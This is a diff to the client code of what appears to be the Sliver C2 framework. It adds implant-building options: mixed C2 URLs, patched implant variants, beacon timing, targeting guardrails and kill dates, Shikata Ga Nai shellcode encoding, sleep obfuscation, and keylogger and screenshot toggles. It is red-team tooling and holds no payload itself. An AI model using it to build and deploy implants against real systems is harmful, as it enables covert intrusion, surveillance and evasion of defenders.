@@ -29,6 +29,7 @@ import (
 	"os"
 	"path"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"text/tabwriter"
 
@@ -77,7 +78,11 @@ func generate(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	if save == "" {
 		save, _ = os.Getwd()
 	}
-	compile(config, save, rpc)
+	compile(&clientpb.GenerateReq{
+		Config:     config,
+		Builder:    ctx.Flags.String("builder"),
+		AllowDebug: ctx.Flags.Bool("allow-debug"),
+	}, save, rpc)
 }
 
 func regenerate(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
@@ -90,9 +95,19 @@ func regenerate(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 		save, _ = os.Getwd()
 	}
 
+	rebuild := ctx.Flags.Bool("rebuild")
+	ctrl := make(chan bool)
+	if rebuild {
+		go spin.Until("Rebuilding implant, please wait ...", ctrl)
+	} else {
+		go spin.Until("Regenerating implant ...", ctrl)
+	}
 	regenerate, err := rpc.Regenerate(context.Background(), &clientpb.RegenerateReq{
 		ImplantName: ctx.Args[0],
+		Rebuild:     rebuild,
 	})
+	ctrl <- true
+	<-ctrl
 	if err != nil {
 		fmt.Printf(Warn+"Failed to regenerate implant %s\n", err)
 		return
@@ -114,6 +129,56 @@ func regenerate(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	fmt.Printf(Info+"Implant binary saved to: %s\n", saveTo)
 }
 
+func patch(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	if len(ctx.Args) < 1 {
+		fmt.Printf(Warn+"Invalid implant name, see `help %s`\n", consts.PatchStr)
+		return
+	}
+	c2s, err := parseC2(ctx.Flags.String("c2"))
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	for index, c2 := range c2s {
+		c2.Priority = uint32(index)
+	}
+	count := ctx.Flags.Int("count")
+	if count < 1 {
+		fmt.Printf(Warn + "Count must be at least 1\n")
+		return
+	}
+	save := ctx.Flags.String("save")
+	if save == "" {
+		save, _ = os.Getwd()
+	}
+
+	for index := 0; index < count; index++ {
+		patched, err := rpc.PatchImplant(context.Background(), &clientpb.PatchReq{
+			ImplantName:         ctx.Args[0],
+			C2:                  c2s,
+			ReconnectInterval:   uint32(ctx.Flags.Int("reconnect")),
+			MaxConnectionErrors: uint32(ctx.Flags.Int("max-errors")),
+			BeaconInterval:      int64(ctx.Flags.Int("beacon-interval")),
+			BeaconJitter:        int64(ctx.Flags.Int("beacon-jitter")),
+		})
+		if err != nil {
+			fmt.Printf(Warn+"Failed to patch implant %s\n", err)
+			return
+		}
+		saveTo, err := saveLocation(save, patched.File.Name)
+		if err != nil {
+			fmt.Printf(Warn+"%s\n", err)
+			return
+		}
+		err = ioutil.WriteFile(saveTo, patched.File.Data, 0700)
+		if err != nil {
+			fmt.Printf(Warn+"Failed to write to %s\n", err)
+			return
+		}
+		fmt.Printf(Info+"Implant variant saved to: %s\n", saveTo)
+	}
+}
+
 func saveLocation(save, defaultName string) (string, error) {
 	var saveTo string
 	if save == "" {
@@ -235,7 +300,12 @@ func parseCompileFlags(ctx *grumble.Context) *clientpb.ImplantConfig {
 	targetOS := strings.ToLower(ctx.Flags.String("os"))
 	arch := strings.ToLower(ctx.Flags.String("arch"))
 
-	c2s := []*clientpb.ImplantC2{}
+	c2s, err := parseC2(ctx.Flags.String("c2"))
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return nil
+	}
+	mixedC2 := len(c2s)
 
 	mtlsC2 := parseMTLSc2(ctx.Flags.String("mtls"))
 	c2s = append(c2s, mtlsC2...)
@@ -252,6 +322,11 @@ func parseCompileFlags(ctx *grumble.Context) *clientpb.ImplantConfig {
 	tcpPivotC2 := parseTCPPivotc2(ctx.Flags.String("tcp-pivot"))
 	c2s = append(c2s, tcpPivotC2...)
 
+	// --c2 URLs come first, then the per-protocol flags in the order above
+	for index, c2 := range c2s {
+		c2.Priority = uint32(index)
+	}
+
 	var symbolObfuscation bool
 	if ctx.Flags.Bool("debug") {
 		symbolObfuscation = false
@@ -259,8 +334,8 @@ func parseCompileFlags(ctx *grumble.Context) *clientpb.ImplantConfig {
 		symbolObfuscation = !ctx.Flags.Bool("skip-symbols")
 	}
 
-	if len(mtlsC2) == 0 && len(httpC2) == 0 && len(dnsC2) == 0 && len(namedPipeC2) == 0 && len(tcpPivotC2) == 0 {
-		fmt.Printf(Warn + "Must specify at least one of --mtls, --http, --dns, --named-pipe, or --tcp-pivot\n")
+	if mixedC2 == 0 && len(mtlsC2) == 0 && len(httpC2) == 0 && len(dnsC2) == 0 && len(namedPipeC2) == 0 && len(tcpPivotC2) == 0 {
+		fmt.Printf(Warn + "Must specify at least one of --c2, --mtls, --http, --dns, --named-pipe, or --tcp-pivot\n")
 		return nil
 	}
 
@@ -274,6 +349,14 @@ func parseCompileFlags(ctx *grumble.Context) *clientpb.ImplantConfig {
 			canaryDomains = append(canaryDomains, canaryDomain)
 		}
 	}
+	canaryDecoyCount := ctx.Flags.Int("canary-decoys")
+	if 0 < canaryDecoyCount && len(canaryDomains) == 0 {
+		fmt.Printf(Warn + "Canary decoys require at least one --canary domain\n")
+		return nil
+	}
+	if canaryDecoyCount < 0 {
+		canaryDecoyCount = 0
+	}
 
 	reconnectInterval := ctx.Flags.Int("reconnect")
 	maxConnectionErrors := ctx.Flags.Int("max-errors")
@@ -281,7 +364,30 @@ func parseCompileFlags(ctx *grumble.Context) *clientpb.ImplantConfig {
 	limitDomainJoined := ctx.Flags.Bool("limit-domainjoined")
 	limitHostname := ctx.Flags.String("limit-hostname")
 	limitUsername := ctx.Flags.String("limit-username")
-	limitDatetime := ctx.Flags.String("limit-datetime")
+	limitDatetime, err := parseDateFlag(ctx.Flags.String("limit-datetime"))
+	if err != nil {
+		fmt.Printf(Warn+"Invalid limit datetime %s\n", err)
+		return nil
+	}
+	limitNotBefore, err := parseDateFlag(ctx.Flags.String("limit-not-before"))
+	if err != nil {
+		fmt.Printf(Warn+"Invalid limit start date %s\n", err)
+		return nil
+	}
+	limitHostnameRegex := ctx.Flags.String("limit-hostname-regex")
+	limitUsernameRegex := ctx.Flags.String("limit-username-regex")
+	for _, pattern := range []string{limitHostnameRegex, limitUsernameRegex} {
+		if _, err := regexp.Compile(pattern); err != nil {
+			fmt.Printf(Warn+"Invalid guardrail regex %s\n", err)
+			return nil
+		}
+	}
+	limitDomain := ctx.Flags.String("limit-domain")
+	killDate, err := parseDateFlag(ctx.Flags.String("kill-date"))
+	if err != nil {
+		fmt.Printf(Warn+"Invalid kill date %s\n", err)
+		return nil
+	}
 
 	isSharedLib := false
 	isService := false
@@ -314,12 +420,61 @@ func parseCompileFlags(ctx *grumble.Context) *clientpb.ImplantConfig {
 	if targetOS == "linux" || targetOS == "unix" || targetOS == "l" {
 		targetOS = "linux"
 	}
+	if targetOS == "js" || targetOS == "wasm" || targetOS == "browser" {
+		targetOS = "js"
+		arch = "wasm"
+	}
 	if arch == "x64" || strings.HasPrefix(arch, "64") {
 		arch = "amd64"
 	}
 	if arch == "x86" || strings.HasPrefix(arch, "32") {
 		arch = "386"
 	}
+	if arch == "aarch64" {
+		arch = "arm64"
+	}
+
+	if configFormat == clientpb.ImplantConfig_SHELLCODE && targetOS != "windows" {
+		fmt.Printf(Warn + "Shellcode can only be generated for windows (amd64 or 386)\n")
+		return nil
+	}
+	if configFormat == clientpb.ImplantConfig_SERVICE && targetOS != "windows" {
+		fmt.Printf(Warn + "Service executables can only be generated for windows\n")
+		return nil
+	}
+	if targetOS == "js" && (configFormat != clientpb.ImplantConfig_EXECUTABLE || len(mtlsC2)+len(dnsC2)+len(namedPipeC2)+len(tcpPivotC2) > 0) {
+		fmt.Printf(Warn + "WebAssembly implants are executables with http(s) C2 only\n")
+		return nil
+	}
+
+	var network *clientpb.NetworkProfile
+	if networkProfile := ctx.Flags.String("network-profile"); networkProfile != "" {
+		network = &clientpb.NetworkProfile{Name: networkProfile}
+	}
+
+	exportName := ctx.Flags.String("export")
+	if (exportName != "" || ctx.Flags.Bool("run-at-load")) && !isSharedLib {
+		fmt.Printf(Warn + "--export and --run-at-load only apply to the 'shared' and 'shellcode' formats\n")
+		return nil
+	}
+
+	encoder := clientpb.ImplantConfig_NONE
+	if ctx.Flags.Bool("sgn") {
+		if configFormat != clientpb.ImplantConfig_SHELLCODE {
+			fmt.Printf(Warn + "--sgn only applies to the 'shellcode' format\n")
+			return nil
+		}
+		if ctx.Flags.Bool("patchable") {
+			fmt.Printf(Warn + "Encoded shellcode can't be patchable\n")
+			return nil
+		}
+		encoder = clientpb.ImplantConfig_SHIKATA_GA_NAI
+	}
+
+	if limitDomain != "" && targetOS != "windows" {
+		fmt.Printf(Warn + "Domain membership can only be checked on windows, the implant will not run\n")
+		return nil
+	}
 
 	if len(namedPipeC2) > 0 && targetOS != "windows" {
 		fmt.Printf(Warn + "Named pipe pivoting can only be used in Windows.")
@@ -332,8 +487,10 @@ func parseCompileFlags(ctx *grumble.Context) *clientpb.ImplantConfig {
 		Debug:            ctx.Flags.Bool("debug"),
 		Evasion:          ctx.Flags.Bool("evasion"),
 		ObfuscateSymbols: symbolObfuscation,
+		ObfuscationSeed:  ctx.Flags.String("seed"),
 		C2:               c2s,
 		CanaryDomains:    canaryDomains,
+		CanaryDecoyCount: uint32(canaryDecoyCount),
 
 		ReconnectInterval:   uint32(reconnectInterval),
 		MaxConnectionErrors: uint32(maxConnectionErrors),
@@ -342,15 +499,70 @@ func parseCompileFlags(ctx *grumble.Context) *clientpb.ImplantConfig {
 		LimitHostname:     limitHostname,
 		LimitUsername:     limitUsername,
 		LimitDatetime:     limitDatetime,
+		KillDate:          killDate,
+
+		LimitHostnameRegex: limitHostnameRegex,
+		LimitUsernameRegex: limitUsernameRegex,
+		LimitDomain:        limitDomain,
+		LimitNotBefore:     limitNotBefore,
+
+		Operational: ctx.Flags.Bool("operational"),
+		Patchable:   ctx.Flags.Bool("patchable"),
+
+		NoScreenshot: ctx.Flags.Bool("no-screenshot"),
+		NoKeylogger:  ctx.Flags.Bool("no-keylogger"),
+		Network:      network,
 
 		Format:      configFormat,
 		IsSharedLib: isSharedLib,
 		IsService:   isService,
+		ExportName:  exportName,
+		RunAtLoad:   ctx.Flags.Bool("run-at-load"),
+		Encoder:     encoder,
+
+		IsBeacon:       ctx.Flags.Bool("beacon"),
+		BeaconInterval: int64(ctx.Flags.Int("beacon-interval")),
+		BeaconJitter:   int64(ctx.Flags.Int("beacon-jitter")),
+
+		SleepObfuscation: ctx.Flags.Bool("sleep-obfuscation"),
 	}
 
 	return config
 }
 
+// parseC2 - Parse C2 URLs of mixed schemes, each URL is normalized by the
+// parser of its scheme
+func parseC2(args string) ([]*clientpb.ImplantC2, error) {
+	c2s := []*clientpb.ImplantC2{}
+	if args == "" {
+		return c2s, nil
+	}
+	for _, arg := range strings.Split(args, ",") {
+		uri, err := url.Parse(arg)
+		if err != nil || uri.Scheme == "" || uri.Host == "" {
+			return nil, fmt.Errorf("Invalid c2 URL '%s'", arg)
+		}
+		host := arg[len(uri.Scheme+"://"):]
+		var parsed []*clientpb.ImplantC2
+		switch strings.ToLower(uri.Scheme) {
+		case "mtls":
+			parsed = parseMTLSc2(host)
+		case "http", "https":
+			parsed = parseHTTPc2(arg)
+		case "dns":
+			parsed = parseDNSc2(host)
+		case "namedpipe":
+			parsed = parseNamedPipec2(host)
+		case "tcppivot":
+			parsed = parseTCPPivotc2(host)
+		default:
+			return nil, fmt.Errorf("Unsupported c2 scheme '%s'", uri.Scheme)
+		}
+		c2s = append(c2s, parsed...)
+	}
+	return c2s, nil
+}
+
 func parseMTLSc2(args string) []*clientpb.ImplantC2 {
 	c2s := []*clientpb.ImplantC2{}
 	if args == "" {
@@ -476,7 +688,11 @@ func profileGenerate(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	}
 	profiles := getSliverProfiles(rpc)
 	if profile, ok := (*profiles)[name]; ok {
-		implantFile, err := compile(profile.Config, save, rpc)
+		implantFile, err := compile(&clientpb.GenerateReq{
+			Config:     profile.Config,
+			Builder:    ctx.Flags.String("builder"),
+			AllowDebug: ctx.Flags.Bool("allow-debug"),
+		}, save, rpc)
 		if err != nil {
 			return
 		}
@@ -491,9 +707,16 @@ func profileGenerate(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	}
 }
 
-func compile(config *clientpb.ImplantConfig, save string, rpc rpcpb.SliverRPCClient) (*commonpb.File, error) {
+func compile(req *clientpb.GenerateReq, save string, rpc rpcpb.SliverRPCClient) (*commonpb.File, error) {
+	config := req.Config
 
 	fmt.Printf(Info+"Generating new %s/%s implant binary\n", config.GOOS, config.GOARCH)
+	if req.Builder != "" {
+		fmt.Printf(Info+"Building on external builder '%s'\n", req.Builder)
+	}
+	if config.Debug {
+		fmt.Printf(Warn+"This is a %sdebug%s build, it logs locally and keeps its symbols\n", bold, normal)
+	}
 
 	if config.ObfuscateSymbols {
 		fmt.Printf(Info+"%sSymbol obfuscation is enabled.%s\n", bold, normal)
@@ -506,9 +729,7 @@ func compile(config *clientpb.ImplantConfig, save string, rpc rpcpb.SliverRPCCli
 	ctrl := make(chan bool)
 	go spin.Until("Compiling, please wait ...", ctrl)
 
-	generated, err := rpc.Generate(context.Background(), &clientpb.GenerateReq{
-		Config: config,
-	})
+	generated, err := rpc.Generate(context.Background(), req)
 	ctrl <- true
 	<-ctrl
 	if err != nil {
@@ -610,9 +831,40 @@ func getLimitsString(config *clientpb.ImplantConfig) string {
 	if config.LimitHostname != "" {
 		limits = append(limits, fmt.Sprintf("hostname=%s", config.LimitHostname))
 	}
+	if config.LimitNotBefore != "" {
+		limits = append(limits, fmt.Sprintf("notbefore=%s", config.LimitNotBefore))
+	}
+	if config.LimitDomain != "" {
+		limits = append(limits, fmt.Sprintf("domain=%s", config.LimitDomain))
+	}
+	if config.LimitUsernameRegex != "" {
+		limits = append(limits, fmt.Sprintf("username~%s", config.LimitUsernameRegex))
+	}
+	if config.LimitHostnameRegex != "" {
+		limits = append(limits, fmt.Sprintf("hostname~%s", config.LimitHostnameRegex))
+	}
+	if config.KillDate != "" {
+		limits = append(limits, fmt.Sprintf("killdate=%s", config.KillDate))
+	}
 	return strings.Join(limits, "; ")
 }
 
+// parseDateFlag - Accept a plain date (midnight UTC) or RFC3339, the implant
+// only understands RFC3339
+func parseDateFlag(value string) (string, error) {
+	if value == "" {
+		return "", nil
+	}
+	killDate, err := time.Parse(time.RFC3339, value)
+	if err != nil {
+		killDate, err = time.Parse("2006-01-02", value)
+		if err != nil {
+			return "", err
+		}
+	}
+	return killDate.Format(time.RFC3339), nil
+}
+
 func newProfile(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	name := ctx.Flags.String("name")
 	if name == "" {
@@ -661,6 +913,38 @@ func canaries(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	}
 }
 
+func builders(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	builders, err := rpc.Builders(context.Background(), &commonpb.Empty{})
+	if err != nil {
+		fmt.Printf(Warn+"Failed to list builders %s\n", err)
+		return
+	}
+	if len(builders.Builders) == 0 {
+		fmt.Printf(Info + "No external builders connected\n")
+		return
+	}
+
+	outputBuf := bytes.NewBufferString("")
+	table := tabwriter.NewWriter(outputBuf, 0, 2, 2, ' ', 0)
+	fmt.Fprintf(table, "Name\tOperator\tActive Tasks\tTargets\t\n")
+	fmt.Fprintf(table, "%s\t%s\t%s\t%s\t\n",
+		strings.Repeat("=", len("Name")),
+		strings.Repeat("=", len("Operator")),
+		strings.Repeat("=", len("Active Tasks")),
+		strings.Repeat("=", len("Targets")),
+	)
+	for _, builder := range builders.Builders {
+		fmt.Fprintf(table, "%s\t%s\t%d\t%s\t\n",
+			builder.Name,
+			builder.OperatorName,
+			builder.ActiveTasks,
+			strings.Join(builder.Targets, ", "),
+		)
+	}
+	table.Flush()
+	fmt.Printf(outputBuf.String())
+}
+
 func displayCanaries(canaries []*clientpb.DNSCanary, burnedOnly bool) {
 
 	outputBuf := bytes.NewBufferString("")